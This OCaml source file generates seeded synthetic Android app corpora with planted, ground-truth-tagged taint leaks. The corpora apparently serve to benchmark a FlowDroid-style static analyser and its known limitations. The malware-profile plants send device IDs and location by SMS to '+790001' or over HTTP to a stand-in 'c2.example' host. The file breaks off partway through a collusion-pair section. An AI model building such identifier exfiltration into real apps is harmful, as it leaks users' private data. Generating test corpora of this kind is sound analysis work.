(** Synthetic app-corpus generation for RQ3.

    The paper evaluates FlowDroid on the 500 most popular Google-Play
    apps and ~1000 VirusShare malware samples; neither corpus is
    redistributable ("for legal reasons we are unable to provide these
    applications online").  This generator produces deterministic
    (seeded) corpora with the two profiles' reported characteristics:

    - {b Play profile}: larger apps (more classes, deeper call
      plumbing, several components), whose leaks are mostly
      *accidental* — identifiers and location data ending up in logs
      and preference files, typically via an embedded
      advertisement-library-like cluster (Section 6.3's findings);
    - {b Malware profile}: comparatively small apps averaging 1.85
      planted leaks, mostly identifiers sent by SMS or to a remote
      server, plus the broadcast-receiver-forwards-to-SMS pattern the
      paper describes.

    Every planted leak carries ground-truth tags, so corpus runs can
    measure recall on known flows in addition to runtime. *)

open Fd_ir
open Fd_util
module B = Build
module T = Types
module FW = Fd_frontend.Framework
module Apk = Fd_frontend.Apk

type profile = Play | Malware | Icc

let string_of_profile = function
  | Play -> "play"
  | Malware -> "malware"
  | Icc -> "icc"

let profile_of_string s =
  List.find_opt (fun p -> string_of_profile p = s) [ Play; Malware; Icc ]

(** The documented Table 1 limitation categories (DESIGN.md §5).  The
    generator plants constructs exercising each one, tagged so the
    differential harness ({!Fd_diffcheck}) can classify the resulting
    static-vs-dynamic disagreements as {e explained} rather than as
    solver divergences. *)
type limitation =
  | Lim_array_index
      (** a tainted element taints the whole array → static FP on a
          read of a different index *)
  | Lim_strong_update
      (** no strong updates on heap locations → static FP after the
          field is overwritten with clean data *)
  | Lim_clinit
      (** static initialisers modelled at program start → static FN
          when [<clinit>] actually runs between source and sink *)
  | Lim_reflection
      (** no reflective call edges → static FN on constant-string
          [Method.invoke] dispatch *)
  | Lim_icc_send
      (** send = sink over-approximation: a deliverable tainted
          intent-send is reported as a leak by itself → static FP,
          fixed by the {!Fd_core.Config.t.icc} tier (the resolver
          drops sends with in-scene receivers) *)
  | Lim_icc_stitch
      (** reception = source over-approximation: the end-to-end
          source→receiver-sink flow is not composed → static FN, fixed
          by the ICC tier's link stitching (also covers tainted
          [setResult] payloads, the DroidBench IntentSink1 miss) *)
  | Lim_icc_rx
      (** the reception-source finding inside a receiver (read the
          arriving intent → sink) is static-only in {e both} tiers:
          the receiver leaks whatever arrives, which the concrete
          monitor only sees when a tainted intent actually lands *)

let string_of_limitation = function
  | Lim_array_index -> "array-index"
  | Lim_strong_update -> "strong-update"
  | Lim_clinit -> "clinit-placement"
  | Lim_reflection -> "reflection"
  | Lim_icc_send -> "icc-send"
  | Lim_icc_stitch -> "icc-stitch"
  | Lim_icc_rx -> "icc-rx"

(** [limitation_is_fp l] — the category manifests as a spurious static
    finding; otherwise it manifests as a missed real leak. *)
let limitation_is_fp = function
  | Lim_array_index | Lim_strong_update | Lim_icc_send | Lim_icc_rx -> true
  | Lim_clinit | Lim_reflection | Lim_icc_stitch -> false

type gen_app = {
  ga_name : string;
  ga_profile : profile;
  ga_apk : Apk.t;
  ga_expected : (string option * string) list;
      (** planted ground truth the static analysis must recover *)
  ga_limits : ((string option * string) * limitation) list;
      (** planted limitation constructs, keyed by (source tag, sink
          tag).  FP categories are {e not} real leaks (and not in
          [ga_expected]); FN categories are real leaks the static
          analysis is documented to miss (also not in [ga_expected],
          so recall on [ga_expected] stays a static-engine promise) *)
  ga_classes : int;  (** size metrics for reporting *)
}

(* ------------------------------------------------------------------ *)
(* code-shape helpers                                                  *)
(* ------------------------------------------------------------------ *)

let str_t = T.Ref "java.lang.String"

(* source emitters: (category tag stem, emit imei-like value) *)
let emit_imei m rng ret =
  ignore rng;
  let tm = B.local m "tm" ~ty:(T.Ref "android.telephony.TelephonyManager") in
  B.newobj m tm "android.telephony.TelephonyManager";
  B.vcall m ~tag:"src" ~ret tm "android.telephony.TelephonyManager"
    (Prng.choose rng [ "getDeviceId"; "getSubscriberId"; "getSimSerialNumber" ])
    []

let emit_location m rng ret =
  ignore rng;
  let lm = B.local m "lm" ~ty:(T.Ref "android.location.LocationManager") in
  B.newobj m lm "android.location.LocationManager";
  B.vcall m ~tag:"src" ~ret lm "android.location.LocationManager"
    "getLastKnownLocation" [ B.s "gps" ]

(* sink emitters *)
let emit_log m data =
  B.scall m ~tag:"snk" "android.util.Log"
    (* the variety exercises the whole log sink family *)
    "i" [ B.s "tag"; data ]

let emit_prefs m data =
  let ed = B.local m "ed" ~ty:(T.Ref "android.content.SharedPreferences$Editor") in
  B.newobj m ed "android.content.SharedPreferences$Editor";
  B.vcall m ~tag:"snk" ed "android.content.SharedPreferences$Editor"
    "putString" [ B.s "k"; data ]

let emit_sms m data =
  let sms = B.local m "sms" ~ty:(T.Ref "android.telephony.SmsManager") in
  B.scall m ~ret:sms "android.telephony.SmsManager" "getDefault" [];
  B.vcall m ~tag:"snk" sms "android.telephony.SmsManager" "sendTextMessage"
    [ B.s "+790001"; B.nul; data; B.nul; B.nul ]

let emit_http m data =
  let conn = B.local m "conn" ~ty:(T.Ref "java.net.HttpURLConnection") in
  B.newc m conn "java.net.HttpURLConnection" [ B.s "http://c2.example/x" ];
  B.vcall m ~tag:"snk" conn "java.net.HttpURLConnection" "sendRequest" [ data ]

(* relay helper classes give the planted flows interprocedural depth;
   each utility also calls into the next one, giving the Play-profile
   apps the deeper call plumbing that makes them slower to analyse *)
let relay_class ?(chain_to = None) pkg idx =
  let cls = Printf.sprintf "%s.Util%d" pkg idx in
  ( cls,
    B.cls cls
      [
        B.meth "pass" ~static:true ~params:[ str_t ] ~ret:str_t (fun m ->
            let p = B.param m 0 "p" in
            match chain_to with
            | Some next ->
                let r = B.local m "r" in
                B.scall m ~ret:r next "pass" [ B.v p ];
                B.retv m (B.v r)
            | None -> B.retv m (B.v p));
        B.meth "decorate" ~static:true ~params:[ str_t ] ~ret:str_t (fun m ->
            let p = B.param m 0 "p" in
            let r = B.local m "r" in
            B.binop m r "+" (B.s "v=") (B.v p);
            B.retv m (B.v r));
        B.meth "busy" ~static:true ~params:[ T.Int ] ~ret:T.Int (fun m ->
            (* taint-free plumbing: gives the solver work without flows *)
            let p = B.param m 0 "p" in
            let r = B.local m "r" ~ty:T.Int in
            B.binop m r "*" (B.v p) (B.i 31);
            B.binop m r "+" (B.v r) (B.i 7);
            B.retv m (B.v r));
      ] )

(* emit a leak: source -> 0..depth relay hops -> sink, tagged with a
   unique pair *)
let plant_leak m rng ~relays ~leak_id ~src_kind ~sink_kind =
  let x = B.local m (Printf.sprintf "leak%d" leak_id) in
  let src_tag = Printf.sprintf "src%d" leak_id in
  let snk_tag = Printf.sprintf "snk%d" leak_id in
  (match src_kind with
  | `Imei ->
      let tm =
        B.local m (Printf.sprintf "tm%d" leak_id)
          ~ty:(T.Ref "android.telephony.TelephonyManager")
      in
      B.newobj m tm "android.telephony.TelephonyManager";
      B.vcall m ~tag:src_tag ~ret:x tm "android.telephony.TelephonyManager"
        (Prng.choose rng [ "getDeviceId"; "getSubscriberId"; "getLine1Number" ])
        []
  | `Location ->
      let lm =
        B.local m (Printf.sprintf "lm%d" leak_id)
          ~ty:(T.Ref "android.location.LocationManager")
      in
      B.newobj m lm "android.location.LocationManager";
      B.vcall m ~tag:src_tag ~ret:x lm "android.location.LocationManager"
        "getLastKnownLocation" [ B.s "gps" ]);
  (* relay hops *)
  let hops = Prng.int rng 3 in
  let cur = ref x in
  for h = 1 to hops do
    let y = B.local m (Printf.sprintf "leak%d_h%d" leak_id h) in
    (match (relays, Prng.int rng 3) with
    | relay :: _, 0 -> B.scall m ~ret:y relay "pass" [ B.v !cur ]
    | _ :: relay :: _, 1 -> B.scall m ~ret:y relay "decorate" [ B.v !cur ]
    | _ -> B.binop m y "+" (B.s "#") (B.v !cur));
    cur := y
  done;
  let data = B.v !cur in
  let emit =
    match sink_kind with
    | `Log ->
        fun () ->
          B.scall m ~tag:snk_tag "android.util.Log" "i" [ B.s "t"; data ]
    | `Prefs ->
        fun () ->
          let ed =
            B.local m (Printf.sprintf "ed%d" leak_id)
              ~ty:(T.Ref "android.content.SharedPreferences$Editor")
          in
          B.newobj m ed "android.content.SharedPreferences$Editor";
          B.vcall m ~tag:snk_tag ed "android.content.SharedPreferences$Editor"
            "putString" [ B.s "k"; data ]
    | `Sms ->
        fun () ->
          let sms =
            B.local m (Printf.sprintf "sms%d" leak_id)
              ~ty:(T.Ref "android.telephony.SmsManager")
          in
          B.scall m ~ret:sms "android.telephony.SmsManager" "getDefault" [];
          B.vcall m ~tag:snk_tag sms "android.telephony.SmsManager"
            "sendTextMessage" [ B.s "+790001"; B.nul; data; B.nul; B.nul ]
    | `Http ->
        fun () ->
          let conn =
            B.local m (Printf.sprintf "conn%d" leak_id)
              ~ty:(T.Ref "java.net.HttpURLConnection")
          in
          B.newc m conn "java.net.HttpURLConnection" [ B.s "http://c2/x" ];
          B.vcall m ~tag:snk_tag conn "java.net.HttpURLConnection"
            "sendRequest" [ data ]
  in
  emit ();
  (Some src_tag, snk_tag)

(* benign code: constant flows into sinks, arithmetic plumbing *)
let emit_benign m rng ~relays ~idx =
  match Prng.int rng 3 with
  | 0 ->
      let x = B.local m (Printf.sprintf "ben%d" idx) in
      B.const m x (B.s "static text");
      B.scall m "android.util.Log" "d" [ B.s "t"; B.v x ]
  | 1 ->
      let n = B.local m (Printf.sprintf "n%d" idx) ~ty:T.Int in
      B.const m n (B.i (Prng.int rng 1000));
      (match relays with
      | relay :: _ -> B.scall m ~ret:n relay "busy" [ B.v n ]
      | [] -> ())
  | _ ->
      let a = B.local m (Printf.sprintf "a%d" idx) in
      let b = B.local m (Printf.sprintf "b%d" idx) in
      B.const m a (B.s "x");
      B.binop m b "+" (B.v a) (B.s "y")

(* ------------------------------------------------------------------ *)
(* limitation plants                                                   *)
(* ------------------------------------------------------------------ *)

(* Each plant is a self-contained construct exercising one documented
   imprecision, with its own (limsrcN, limsnkN) tag pair so the
   differential harness can look the category up by key.  None of the
   emitters draws from the rng: the kind choice happens up front in
   [generate], keeping the app deterministic in the draw order. *)

let lim_source m ~tag ~j ret =
  let tm =
    B.local m
      (Printf.sprintf "ltm%d" j)
      ~ty:(T.Ref "android.telephony.TelephonyManager")
  in
  B.newobj m tm "android.telephony.TelephonyManager";
  B.vcall m ~tag ~ret tm "android.telephony.TelephonyManager" "getDeviceId" []

let lim_sink m ~tag data =
  B.scall m ~tag "android.util.Log" "i" [ B.s "lim"; data ]

(* arr[0] := tainted; sink(arr[1]) — the static analysis taints the
   whole array (§4.1), the dynamic monitor tracks per cell *)
let emit_lim_array m ~j ~src_tag ~snk_tag =
  let arr = B.local m (Printf.sprintf "limarr%d" j) ~ty:(T.Array str_t) in
  B.newarray m arr str_t (B.i 2);
  let x = B.local m (Printf.sprintf "limx%d" j) in
  lim_source m ~tag:src_tag ~j x;
  B.astore m arr (B.i 0) (B.v x);
  let y = B.local m (Printf.sprintf "limy%d" j) in
  B.aload m y arr (B.i 1);
  lim_sink m ~tag:snk_tag (B.v y)

(* o.val := tainted; o.val := "clean"; sink(o.val) — no strong updates
   on heap locations keeps the stale taint alive statically *)
let emit_lim_strong_update m ~box_cls ~j ~src_tag ~snk_tag =
  let f = B.fld ~ty:str_t box_cls "v" in
  let o = B.local m (Printf.sprintf "limo%d" j) ~ty:(T.Ref box_cls) in
  B.newobj m o box_cls;
  let x = B.local m (Printf.sprintf "limx%d" j) in
  lim_source m ~tag:src_tag ~j x;
  B.store m o f (B.v x);
  B.store m o f (B.s "clean");
  let y = B.local m (Printf.sprintf "limy%d" j) in
  B.load m y o f;
  lim_sink m ~tag:snk_tag (B.v y)

(* store tainted into a static field, then trigger the helper's
   <clinit> (which reads the field and sinks it) via first use — the
   static model runs initialisers at program start and misses the
   flow; the interpreter runs them at first use and observes it *)
let emit_lim_clinit m ~cls ~helper ~j ~src_tag =
  let g = B.fld ~ty:str_t cls (Printf.sprintf "limstash%d" j) in
  let x = B.local m (Printf.sprintf "limx%d" j) in
  lim_source m ~tag:src_tag ~j x;
  B.storestatic m g (B.v x);
  let h = B.local m (Printf.sprintf "limh%d" j) ~ty:(T.Ref helper) in
  B.newobj m h helper

(* the <clinit> helper class for [emit_lim_clinit] *)
let lim_clinit_helper ~cls ~helper ~j ~snk_tag =
  let g = B.fld ~ty:str_t cls (Printf.sprintf "limstash%d" j) in
  B.cls helper
    [
      B.meth "<clinit>" ~static:true (fun m ->
          let v = B.local m "v" in
          B.loadstatic m v g;
          lim_sink m ~tag:snk_tag (B.v v));
    ]

(* constant-string reflective dispatch to a sinking method — no
   reflective call edges statically; the interpreter's Method model
   executes the real body *)
let emit_lim_reflection m ~j ~src_tag =
  let this = B.this m in
  let x = B.local m (Printf.sprintf "limx%d" j) in
  lim_source m ~tag:src_tag ~j x;
  let mth =
    B.local m
      (Printf.sprintf "limmth%d" j)
      ~ty:(T.Ref "java.lang.reflect.Method")
  in
  B.vcall m ~ret:mth this "java.lang.Class" "getMethod"
    [ B.s (Printf.sprintf "limleak%d" j) ];
  B.vcall m mth "java.lang.reflect.Method" "invoke" [ B.v this; B.v x ]

(* the reflectively invoked method for [emit_lim_reflection] *)
let lim_reflection_target ~j ~snk_tag =
  B.meth (Printf.sprintf "limleak%d" j) ~params:[ str_t ] (fun m ->
      let _this = B.this m in
      let p = B.param m 0 "p" in
      lim_sink m ~tag:snk_tag (B.v p))

(* ------------------------------------------------------------------ *)
(* ICC profile                                                         *)
(* ------------------------------------------------------------------ *)

(* Each ICC scenario is one sender component plus receiver components
   connected only through the manifest.  The three ICC limitation
   categories split the planted keys per tier:

   - [(src, send)]  — the tainted send is a leak tier-off (send =
     sink, on both sides of the differential fence) and silent
     tier-on ([Lim_icc_send], fixed by the resolver);
   - [(src, snk)]   — the stitched end-to-end flow, missed tier-off
     and recovered tier-on ([Lim_icc_stitch]);
   - [(rx, snk)]    — the reception-source finding inside the
     receiver, static-only in both tiers ([Lim_icc_rx]): at runtime
     an *external* launch carries no extra under the read key.

   A per-key separation bug (a flow stitched through the wrong extra
   key) therefore surfaces as an unexplained [Spurious_static]
   divergence — no accounting entry hides it. *)

type icc_scenario =
  | Sc_explicit  (** new Intent(Recv.class) → startActivity *)
  | Sc_action  (** setAction + sendBroadcast, filter-matched *)
  | Sc_data  (** action + data URI; host-matched filter + decoy *)
  | Sc_keysplit  (** tainted and clean extras under different keys *)
  | Sc_unmatched  (** a send no component receives: a real leak *)
  | Sc_result  (** tainted [setResult] payload *)
  | Sc_relay  (** two hops: the receiver re-sends to a second one *)

let intent_t = T.Ref "android.content.Intent"

(* a manifest component entry with intent filters; a filter is
   (actions, data specs (scheme, host)) *)
type icc_mcomp = {
  mc_kind : FW.component_kind;
  mc_cls : string;
  mc_main : bool;
  mc_exported : bool option;  (** the explicit [android:exported] *)
  mc_filters : (string list * (string * string) list) list;
}

let icc_comp ?(main = false) ?exported ?(filters = []) kind cls =
  {
    mc_kind = kind;
    mc_cls = cls;
    mc_main = main;
    mc_exported = exported;
    mc_filters = filters;
  }

let icc_manifest ~package comps =
  let buf = Buffer.create 1024 in
  Buffer.add_string buf
    (Printf.sprintf
       "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n\
        <manifest package=\"%s\">\n\
       \  <application>\n"
       package);
  List.iter
    (fun c ->
      let tag = FW.string_of_component_kind c.mc_kind in
      let exp =
        match c.mc_exported with
        | Some b -> Printf.sprintf " android:exported=\"%b\"" b
        | None -> ""
      in
      if c.mc_filters = [] && not c.mc_main then
        Buffer.add_string buf
          (Printf.sprintf "    <%s android:name=\"%s\"%s/>\n" tag c.mc_cls exp)
      else begin
        Buffer.add_string buf
          (Printf.sprintf "    <%s android:name=\"%s\"%s>\n" tag c.mc_cls exp);
        if c.mc_main then
          Buffer.add_string buf
            "      <intent-filter>\n\
            \        <action android:name=\"android.intent.action.MAIN\"/>\n\
            \        <category \
             android:name=\"android.intent.category.LAUNCHER\"/>\n\
            \      </intent-filter>\n";
        List.iter
          (fun (actions, datas) ->
            Buffer.add_string buf "      <intent-filter>\n";
            List.iter
              (fun a ->
                Buffer.add_string buf
                  (Printf.sprintf "        <action android:name=\"%s\"/>\n" a))
              actions;
            List.iter
              (fun (s, h) ->
                Buffer.add_string buf
                  (Printf.sprintf
                     "        <data android:scheme=\"%s\" \
                      android:host=\"%s\"/>\n"
                     s h))
              datas;
            Buffer.add_string buf "      </intent-filter>\n")
          c.mc_filters;
        Buffer.add_string buf (Printf.sprintf "    </%s>\n" tag)
      end)
    comps;
  Buffer.add_string buf "  </application>\n</manifest>\n";
  Buffer.contents buf

(* ICC emitters.  Locals are namespaced by the scenario index [j];
   every scenario lives in its own component classes. *)

let icc_source m ~tag j =
  let tm =
    B.local m (Printf.sprintf "itm%d" j)
      ~ty:(T.Ref "android.telephony.TelephonyManager")
  in
  B.newobj m tm "android.telephony.TelephonyManager";
  let x = B.local m (Printf.sprintf "ix%d" j) in
  B.vcall m ~tag ~ret:x tm "android.telephony.TelephonyManager" "getDeviceId"
    [];
  x

let icc_intent m ?to_cls j suffix =
  let i = B.local m (Printf.sprintf "ii%d%s" j suffix) ~ty:intent_t in
  (match to_cls with
  | Some c ->
      B.newc m i "android.content.Intent" [ Stmt.Iconst (Stmt.CClassRef c) ]
  | None -> B.newc m i "android.content.Intent" []);
  i

let icc_put m ~key iv data =
  B.vcall m iv "android.content.Intent" "putExtra" [ B.s key; data ]

let icc_start m ~tag this iv =
  B.vcall m ~tag this "android.app.Activity" "startActivity" [ B.v iv ]

let icc_broadcast m ~tag j iv =
  let ctx =
    B.local m (Printf.sprintf "ictx%d" j) ~ty:(T.Ref "android.content.Context")
  in
  B.newobj m ctx "android.content.Context";
  B.vcall m ~tag ctx "android.content.Context" "sendBroadcast" [ B.v iv ]

let icc_sink m ~tag y =
  B.scall m ~tag "android.util.Log" "i" [ B.s "icc"; B.v y ]

let icc_sender_activity cls emit =
  B.cls cls ~super:"android.app.Activity"
    [
      B.meth "onCreate" ~params:[ T.Ref "android.os.Bundle" ] (fun m ->
          let this = B.this m in
          let _ = B.param m 0 "b" in
          emit m this);
    ]

(* an activity that reads extra [key] from its launch intent; [after]
   decides what happens to the value (sink it, relay it, …) *)
let icc_recv_activity cls ~j ~key ~rx_tag after =
  B.cls cls ~super:"android.app.Activity"
    [
      B.meth "onCreate" ~params:[ T.Ref "android.os.Bundle" ] (fun m ->
          let this = B.this m in
          let _ = B.param m 0 "b" in
          let it = B.local m (Printf.sprintf "rit%d" j) ~ty:intent_t in
          B.vcall m ~ret:it this "android.app.Activity" "getIntent" [];
          let y = B.local m (Printf.sprintf "ry%d" j) in
          B.vcall m ~tag:rx_tag ~ret:y it "android.content.Intent"
            "getStringExtra" [ B.s key ];
          after m this y);
    ]

let icc_recv_receiver cls ~j ~key ~rx_tag ~snk_tag =
  B.cls cls ~super:"android.content.BroadcastReceiver"
    [
      B.meth "onReceive"
        ~params:[ T.Ref "android.content.Context"; intent_t ]
        (fun m ->
          let _this = B.this m in
          let _c = B.param m 0 "c" in
          let it = B.param m 1 "it" ~ty:intent_t in
          let y = B.local m (Printf.sprintf "ry%d" j) in
          B.vcall m ~tag:rx_tag ~ret:y it "android.content.Intent"
            "getStringExtra" [ B.s key ];
          icc_sink m ~tag:snk_tag y);
    ]

type icc_parts = {
  ip_classes : Jclass.t list;
  ip_comps : icc_mcomp list;
  ip_expected : (string option * string) list;
  ip_limits : ((string option * string) * limitation) list;
}

let icc_scenario ~pkg ~j kind =
  let src = Printf.sprintf "isrc%d" j in
  let snd_ = Printf.sprintf "isnd%d" j in
  let sndb = Printf.sprintf "isnd%db" j in
  let rx = Printf.sprintf "irx%d" j in
  let rxb = Printf.sprintf "irx%db" j in
  let rxd = Printf.sprintf "irx%dd" j in
  let snk = Printf.sprintf "isnk%d" j in
  let snkb = Printf.sprintf "isnk%db" j in
  let snkd = Printf.sprintf "isnk%dd" j in
  let res = Printf.sprintf "ires%d" j in
  let key = Printf.sprintf "k%d" j in
  let keyb = Printf.sprintf "k%db" j in
  let sender_cls = Printf.sprintf "%s.Send%d" pkg j in
  let recv_cls = Printf.sprintf "%s.Recv%d" pkg j in
  let recvb_cls = Printf.sprintf "%s.RecvB%d" pkg j in
  let action = Printf.sprintf "%s.ACT%d" pkg j in
  let host = Printf.sprintf "h%d" j in
  let sender_comp = icc_comp FW.Activity sender_cls in
  let sink_after tag = fun m _this y -> icc_sink m ~tag y in
  match kind with
  | Sc_explicit ->
      let sender =
        icc_sender_activity sender_cls (fun m this ->
            let x = icc_source m ~tag:src j in
            let i = icc_intent m ~to_cls:recv_cls j "" in
            icc_put m ~key i (B.v x);
            icc_start m ~tag:snd_ this i)
      in
      let recv = icc_recv_activity recv_cls ~j ~key ~rx_tag:rx (sink_after snk) in
      {
        ip_classes = [ sender; recv ];
        ip_comps =
          [
            sender_comp;
            (* explicitly unexported: intra-app explicit delivery must
               ignore the exported gate *)
            icc_comp ~exported:false FW.Activity recv_cls;
          ];
        ip_expected = [];
        ip_limits =
          [
            ((Some src, snd_), Lim_icc_send);
            ((Some src, snk), Lim_icc_stitch);
            ((Some rx, snk), Lim_icc_rx);
          ];
      }
  | Sc_action ->
      let sender =
        icc_sender_activity sender_cls (fun m _this ->
            let x = icc_source m ~tag:src j in
            let i = icc_intent m j "" in
            B.vcall m i "android.content.Intent" "setAction" [ B.s action ];
            icc_put m ~key i (B.v x);
            icc_broadcast m ~tag:snd_ j i)
      in
      let recv = icc_recv_receiver recv_cls ~j ~key ~rx_tag:rx ~snk_tag:snk in
      {
        ip_classes = [ sender; recv ];
        ip_comps =
          [
            sender_comp;
            icc_comp ~filters:[ ([ action ], []) ] FW.Receiver recv_cls;
          ];
        ip_expected = [];
        ip_limits =
          [
            ((Some src, snd_), Lim_icc_send);
            ((Some src, snk), Lim_icc_stitch);
            ((Some rx, snk), Lim_icc_rx);
            (* the untagged [onReceive] param1 source is the other face
               of the reception over-approximation *)
            ((None, snk), Lim_icc_rx);
          ];
      }
  | Sc_data ->
      let sender =
        icc_sender_activity sender_cls (fun m this ->
            let x = icc_source m ~tag:src j in
            let i = icc_intent m j "" in
            B.vcall m i "android.content.Intent" "setAction" [ B.s action ];
            B.vcall m i "android.content.Intent" "setData"
              [ B.s (Printf.sprintf "app://%s/x" host) ];
            icc_put m ~key i (B.v x);
            icc_start m ~tag:snd_ this i)
      in
      let recv = icc_recv_activity recv_cls ~j ~key ~rx_tag:rx (sink_after snk) in
      (* the decoy matches the action but not the data host: it must
         receive nothing, statically or dynamically *)
      let decoy =
        icc_recv_activity recvb_cls ~j ~key ~rx_tag:rxd (sink_after snkd)
      in
      {
        ip_classes = [ sender; recv; decoy ];
        ip_comps =
          [
            sender_comp;
            icc_comp
              ~filters:[ ([ action ], [ ("app", host) ]) ]
              FW.Activity recv_cls;
            icc_comp
              ~filters:[ ([ action ], [ ("app", host ^ "x") ]) ]
              FW.Activity recvb_cls;
          ];
        ip_expected = [];
        ip_limits =
          [
            ((Some src, snd_), Lim_icc_send);
            ((Some src, snk), Lim_icc_stitch);
            ((Some rx, snk), Lim_icc_rx);
            ((Some rxd, snkd), Lim_icc_rx);
          ];
      }
  | Sc_keysplit ->
      (* both intents carry the tainted extra under [key] and a clean
         one under [keyb]; only the receiver reading [key] leaks.  A
         stitch onto the clean-key receiver would surface as an
         unexplained Spurious_static divergence *)
      let sender =
        icc_sender_activity sender_cls (fun m this ->
            let x = icc_source m ~tag:src j in
            let i1 = icc_intent m ~to_cls:recv_cls j "" in
            icc_put m ~key i1 (B.v x);
            icc_put m ~key:keyb i1 (B.s "clean");
            icc_start m ~tag:snd_ this i1;
            let i2 = icc_intent m ~to_cls:recvb_cls j "b" in
            icc_put m ~key i2 (B.v x);
            icc_put m ~key:keyb i2 (B.s "clean");
            icc_start m ~tag:sndb this i2)
      in
      let recv = icc_recv_activity recv_cls ~j ~key ~rx_tag:rx (sink_after snk) in
      let recvb =
        icc_recv_activity recvb_cls ~j ~key:keyb ~rx_tag:rxb (sink_after snkb)
      in
      {
        ip_classes = [ sender; recv; recvb ];
        ip_comps =
          [
            sender_comp;
            icc_comp FW.Activity recv_cls;
            icc_comp FW.Activity recvb_cls;
          ];
        ip_expected = [];
        ip_limits =
          [
            ((Some src, snd_), Lim_icc_send);
            ((Some src, sndb), Lim_icc_send);
            ((Some src, snk), Lim_icc_stitch);
            ((Some rx, snk), Lim_icc_rx);
            ((Some rxb, snkb), Lim_icc_rx);
          ];
      }
  | Sc_unmatched ->
      (* resolves nowhere: the send stays a real leak in both tiers,
         and tier-on also reports it as attack surface *)
      let sender =
        icc_sender_activity sender_cls (fun m _this ->
            let x = icc_source m ~tag:src j in
            let i = icc_intent m j "" in
            B.vcall m i "android.content.Intent" "setAction"
              [ B.s (action ^ ".NOBODY") ];
            icc_put m ~key i (B.v x);
            icc_broadcast m ~tag:snd_ j i)
      in
      {
        ip_classes = [ sender ];
        ip_comps = [ sender_comp ];
        ip_expected = [ (Some src, snd_) ];
        ip_limits = [];
      }
  | Sc_result ->
      let sender =
        icc_sender_activity sender_cls (fun m this ->
            let x = icc_source m ~tag:src j in
            let i = icc_intent m j "" in
            icc_put m ~key i (B.v x);
            B.vcall m ~tag:res this "android.app.Activity" "setResult"
              [ B.i 1; B.v i ])
      in
      {
        ip_classes = [ sender ];
        ip_comps = [ sender_comp ];
        ip_expected = [];
        ip_limits = [ ((Some src, res), Lim_icc_stitch) ];
      }
  | Sc_relay ->
      (* sender → relay (reads, re-wraps, re-sends) → final sink: the
         stitch fixpoint must compose across the intermediate hop *)
      let sender =
        icc_sender_activity sender_cls (fun m this ->
            let x = icc_source m ~tag:src j in
            let i = icc_intent m ~to_cls:recv_cls j "" in
            icc_put m ~key i (B.v x);
            icc_start m ~tag:snd_ this i)
      in
      let relay =
        icc_recv_activity recv_cls ~j ~key ~rx_tag:rx (fun m this y ->
            let i2 = icc_intent m ~to_cls:recvb_cls j "b" in
            icc_put m ~key:keyb i2 (B.v y);
            icc_start m ~tag:sndb this i2)
      in
      let final =
        icc_recv_activity recvb_cls ~j ~key:keyb ~rx_tag:rxb (sink_after snkb)
      in
      {
        ip_classes = [ sender; relay; final ];
        ip_comps =
          [
            sender_comp;
            icc_comp FW.Activity recv_cls;
            icc_comp FW.Activity recvb_cls;
          ];
        ip_expected = [];
        ip_limits =
          [
            ((Some src, snd_), Lim_icc_send);
            ((Some src, snkb), Lim_icc_stitch);
            ((Some rx, sndb), Lim_icc_rx);
            ((Some rx, snkb), Lim_icc_rx);
            ((Some rxb, snkb), Lim_icc_rx);
          ];
      }

let generate_icc ~seed index =
  let rng = Prng.create (Intern.combine seed index) in
  let pkg = Printf.sprintf "gen.icc.app%d" index in
  let n_scen = Prng.range rng 2 4 in
  let kinds =
    List.init n_scen (fun _ ->
        Prng.choose rng
          [
            Sc_explicit; Sc_action; Sc_data; Sc_keysplit; Sc_unmatched;
            Sc_result; Sc_relay;
          ])
  in
  let parts = List.mapi (fun j k -> icc_scenario ~pkg ~j k) kinds in
  let main_cls = pkg ^ ".Main" in
  let main =
    B.cls main_cls ~super:"android.app.Activity"
      [
        B.meth "onCreate" ~params:[ T.Ref "android.os.Bundle" ] (fun m ->
            let _this = B.this m in
            let _ = B.param m 0 "b" in
            let a = B.local m "ben" in
            B.const m a (B.s "hello");
            B.scall m "android.util.Log" "d" [ B.s "t"; B.v a ]);
      ]
  in
  let comps =
    icc_comp ~main:true FW.Activity main_cls
    :: List.concat_map (fun p -> p.ip_comps) parts
  in
  let classes = main :: List.concat_map (fun p -> p.ip_classes) parts in
  {
    ga_name = Printf.sprintf "icc-%04d" index;
    ga_profile = Icc;
    ga_apk =
      Apk.make
        (Printf.sprintf "icc%d" index)
        ~manifest:(icc_manifest ~package:pkg comps)
        classes;
    ga_expected = List.concat_map (fun p -> p.ip_expected) parts;
    ga_limits = List.concat_map (fun p -> p.ip_limits) parts;
    ga_classes = List.length classes;
  }

(* ------------------------------------------------------------------ *)
(* collusion pairs                                                     *)
(* ------------------------------------------------------------------ *)

(** A two-app collusion campaign unit: app A harvests and broadcasts,
    app B's {e exported} component forwards to a sink.  Only the two
    apps loaded into one merged Scene ({!Fd_frontend.Apk.load_merged},
    then {!Fd_core.Infoflow.analyze_merged}) show the flow. *)
type gen_pair = {
  gp_name : string;
  gp_sender : gen_app;  (** per-app fields describe the app alone *)
  gp_receiver : gen_app;
  gp_expected : (string option * string) list;
      (** merged-scene ground truth *)
  gp_limits : ((string option * string) * limitation) list;
}

let collusion_pair ~seed index =
  let rng = Prng.create (Intern.combine (Intern.combine seed 0x1cc) index) in
  let pkga = Printf.sprintf "gen.iccpair.a%d" index in
  let pkgb = Printf.sprintf "gen.iccpair.b%d" index in
  let action = Printf.sprintf "gen.pair%d.LEAK" index in
  let key = "payload" in
  let src = "psrc" and snd_ = "psnd" in
  let rx = "prx" and snk = "psnk" in
  let rxd = "prxd" and snkd = "psnkd" in
  let via_activity = Prng.bool rng in
  (* app A: harvest, wrap, send into the blind *)
  let sa_cls = pkga ^ ".Main" in
  let sender_cls =
    icc_sender_activity sa_cls (fun m this ->
        let x = icc_source m ~tag:src 0 in
        let i = icc_intent m 0 "" in
        B.vcall m i "android.content.Intent" "setAction" [ B.s action ];
        icc_put m ~key i (B.v x);
        if via_activity then icc_start m ~tag:snd_ this i
        else icc_broadcast m ~tag:snd_ 0 i)
  in
  let sender_app =
    {
      ga_name = Printf.sprintf "iccpairA-%04d" index;
      ga_profile = Icc;
      ga_apk =
        Apk.make
          (Printf.sprintf "iccpairA%d" index)
          ~manifest:
            (icc_manifest ~package:pkga
               [ icc_comp ~main:true FW.Activity sa_cls ])
          [ sender_cls ];
      ga_expected = [];
      ga_limits = [];
      ga_classes = 1;
    }
  in
  (* app B: an exported receiver (filter present, attribute absent —
     the Android 12 rule makes it exported) plus an explicitly
     unexported decoy with the same filter, which must receive
